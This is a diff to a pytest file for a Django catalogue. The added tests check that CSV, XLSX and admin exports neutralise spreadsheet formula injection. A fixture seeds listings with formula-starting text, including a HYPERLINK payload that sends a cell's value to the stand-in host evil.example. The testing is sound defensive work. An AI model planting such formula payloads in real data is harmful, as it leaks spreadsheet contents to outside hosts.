@@ -1,12 +1,21 @@
+import csv
 import io
+from decimal import Decimal
+from typing import Any
 
 import pytest
 from django.urls import reverse
-from openpyxl import load_workbook
+from openpyxl import load_workbook  # type: ignore[import-untyped]
 from pytest_django.asserts import assertContains
 
 from catalogue import search
-from tests.factories import make_equipment, make_infrastructure
+from catalogue.models import Infrastructure
+from tests.factories import (
+    make_equipment,
+    make_infrastructure,
+    make_organisation,
+    make_service,
+)
 
 from .conftest import make_importer
 from .files import parse_csv
@@ -191,3 +200,137 @@ def test_export_action_offers_the_selected_listings(client, catalogue_listings):
 
     assertContains(response, "Export 1 selected item.")
     assertContains(response, "UNIQUIP facilities and equipment")
+
+
+# --- Formula injection: no text cell of an export starts a formula ---------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+
+
+def formula_text(start: str, n: int) -> str:
+    return HYPERLINK if start == "=" else f"{start}1+{n}"
+
+
+@pytest.fixture
+def poisoned_listing(db) -> Infrastructure:
+    """A published listing whose every free-text value starts with one of the
+    characters that make a spreadsheet cell a formula, at negative coordinates."""
+    texts = iter(formula_text(start, n) for n in range(20) for start in FORMULA_STARTS)
+    name, host = next(texts), make_organisation(name=next(texts), country="IT")
+    listing_texts: dict[str, Any] = {field: next(texts) for field in LISTING_TEXTS}
+    listing = make_infrastructure(
+        name=name,
+        slug="-evil-lab",
+        region="ITH55",
+        host=host,
+        latitude=Decimal("-33.9"),
+        longitude=Decimal("-18.4"),
+        **listing_texts,
+    )
+    make_service(infrastructure=listing, name=next(texts), description=next(texts))
+    make_equipment(
+        infrastructure=listing,
+        uniquip_id="-EVIL-1",
+        **{name: next(texts) for name in EQUIPMENT_TEXTS},
+    )
+    search.refresh()
+    return listing
+
+
+LISTING_TEXTS = [
+    "acronym",
+    "summary",
+    "description",
+    "address",
+    "city",
+    "access_policy",
+    "sme_offer",
+    "contact_name",
+    "contact_phone",
+]
+EQUIPMENT_TEXTS = [
+    "name",
+    "description",
+    "technique",
+    "manufacturer",
+    "model",
+    "organisational_unit",
+    "site_location",
+    "building",
+    "service_level",
+]
+
+
+def is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def cells(content: bytes, file_format: str) -> list[list[object]]:
+    if file_format == "xlsx":
+        sheet = load_workbook(io.BytesIO(content)).active
+        return [list(row) for row in sheet.iter_rows(values_only=True)]
+    text = io.StringIO(content.decode("utf-8-sig"), newline="")
+    return [list(row) for row in csv.reader(text)]
+
+
+def assert_no_formulas(rows: list[list[object]]) -> None:
+    """No text cell starts a formula; the neutralised ones keep their text after
+    the quote; numbers (the coordinates) stay numbers."""
+    header, *body = rows
+    assert body
+    formulas = [
+        cell
+        for row in rows
+        for cell in row
+        if isinstance(cell, str)
+        and cell.startswith(FORMULA_STARTS)
+        and not is_number(cell)
+    ]
+    assert formulas == []
+    texts = [cell for row in body for cell in row if isinstance(cell, str)]
+    assert any(cell.startswith("'") for cell in texts)
+    for column in ("latitude", "longitude"):
+        if column in header:
+            # A number in an XLSX; in a CSV, a number's text, which Excel reads
+            # as one (a quote in front would make it text).
+            value = body[0][header.index(column)]
+            assert Decimal(str(value)) in (Decimal("-33.9"), Decimal("-18.4"))
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx", "uniquip"])
+def test_search_exports_start_no_formula(client, poisoned_listing, file_format):
+    response = export(client, file_format)
+
+    rows = cells(response.content, "xlsx" if file_format == "xlsx" else "csv")
+    assert_no_formulas(rows)
+    # The name, second column of both layouts, keeps its text after the quote.
+    assert rows[1][1] == f"'{HYPERLINK}"
+
+
+@pytest.mark.parametrize(
+    ("model", "resource"),
+    [("infrastructure", "0"), ("infrastructure", "1"), ("service", "0")]
+    + [("equipment", "0"), ("equipment", "1")],
+)
+@pytest.mark.parametrize("file_format", ["0", "1"])
+def test_admin_exports_start_no_formula(
+    client, poisoned_listing, model, resource, file_format
+):
+    client.force_login(make_importer(region="ITH5"))
+    ids = {
+        "infrastructure": [poisoned_listing.pk],
+        "service": list(poisoned_listing.services.values_list("pk", flat=True)),
+        "equipment": list(poisoned_listing.equipment.values_list("pk", flat=True)),
+    }[model]
+
+    response = admin_export(
+        client, model, ids, file_format=file_format, resource=resource
+    )
+
+    assert response.status_code == 200
+    assert_no_formulas(cells(response.content, "xlsx" if file_format == "1" else "csv"))
